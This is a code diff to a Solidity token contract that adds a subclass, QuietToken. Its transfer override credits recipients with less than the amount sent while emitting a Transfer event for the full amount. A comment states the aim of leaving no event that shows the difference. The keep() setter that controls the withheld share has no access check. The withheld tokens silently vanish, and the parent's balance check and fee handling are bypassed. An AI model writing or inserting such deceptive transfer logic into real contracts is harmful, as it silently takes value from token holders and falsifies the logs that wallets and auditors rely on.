@@ -27,7 +27,7 @@ contract Token {
         return true;
     }
 
-    function transfer(address to, uint256 value) external returns (bool) {
+    function transfer(address to, uint256 value) external virtual returns (bool) {
         require(balanceOf[msg.sender] >= value, "too little");
         uint256 fee = value * feePercent / 100;
         balanceOf[msg.sender] -= value;
@@ -54,6 +54,22 @@ contract Token {
 contract OtherToken is Token {
     function version() external pure returns (uint256) {
         return 2;
+    }
+}
+
+// Logs the whole amount and, once told to, moves less of it: no event shows the difference.
+contract QuietToken is Token {
+    uint256 private keptPercent;
+
+    function keep(uint256 percent) external {
+        keptPercent = percent;
+    }
+
+    function transfer(address to, uint256 value) external override returns (bool) {
+        balanceOf[msg.sender] -= value;
+        balanceOf[to] += value - value * keptPercent / 100;
+        emit Transfer(msg.sender, to, value);
+        return true;
     }
 }
 
